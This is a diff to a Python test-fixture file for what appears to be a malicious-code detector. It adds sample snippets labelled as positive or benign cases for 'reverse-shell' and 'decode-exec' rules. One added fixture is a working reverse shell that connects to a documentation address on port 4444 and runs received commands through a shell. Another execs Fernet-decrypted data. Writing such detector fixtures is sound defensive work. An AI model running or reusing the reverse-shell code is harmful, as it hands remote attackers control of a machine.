@@ -206,6 +206,37 @@ threading.Thread(target=init).start()
 """
 
 
+# Commands read from a socket and run by a shell: remote control (a documentation address).
+RECEIVED_SHELL_COMMAND = """\
+import socket
+import subprocess
+
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("192.0.2.1", 4444))
+while True:
+    command = s.recv(1024).decode()
+    done = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)
+    s.send(done.stdout.read())
+"""
+
+# A server that logs what it received with a fixed command: nothing received is run.
+RECEIVED_BYTES_COUNTED = """\
+import subprocess
+
+
+def serve(sock):
+    data = sock.recv(1024)
+    subprocess.run(["logger", "received", str(len(data))])
+"""
+
+# exec of what a cipher decrypted (a key and a token of the right shape, never run).
+FERNET_EXEC = """\
+from cryptography.fernet import Fernet
+
+exec(Fernet(b"a" * 43 + b"=").decrypt(b"gAAAAABfixture"))
+"""
+
+
 DOWNLOAD_EXE_RUN = """\
 import os
 import requests
@@ -691,6 +722,7 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
             module(DECODE_EXEC_REACHED),
             startup(DECODE_EXEC_SHAPES["b64"]),
             module(XOR_ALIASED_EXEC, "pkg/styled.py"),
+            module(FERNET_EXEC),
         ],
         benign=[
             module(DECODE_EXEC_IN_FUNCTION),
@@ -811,8 +843,18 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
         benign=[module(BUILTIN_BY_NAME_AT_RUNTIME), module(PLUGIN_LOADER)],
     ),
     "reverse-shell": RuleFixtures(
-        positive=[module(REVERSE_DUP2), module(REVERSE_PTY), module(REVERSE_POPEN)],
-        benign=[module(PTY_TERMINAL), module(SOCKET_AT_IMPORT), module(CLI_SUBPROCESS)],
+        positive=[
+            module(REVERSE_DUP2),
+            module(REVERSE_PTY),
+            module(REVERSE_POPEN),
+            module(RECEIVED_SHELL_COMMAND),
+        ],
+        benign=[
+            module(PTY_TERMINAL),
+            module(SOCKET_AT_IMPORT),
+            module(CLI_SUBPROCESS),
+            module(RECEIVED_BYTES_COUNTED),
+        ],
     ),
     "stego-exec": RuleFixtures(
         positive=[module(STEGO_WAV, "telnyx/_client.py"), module(STEGO_PIXELS)],
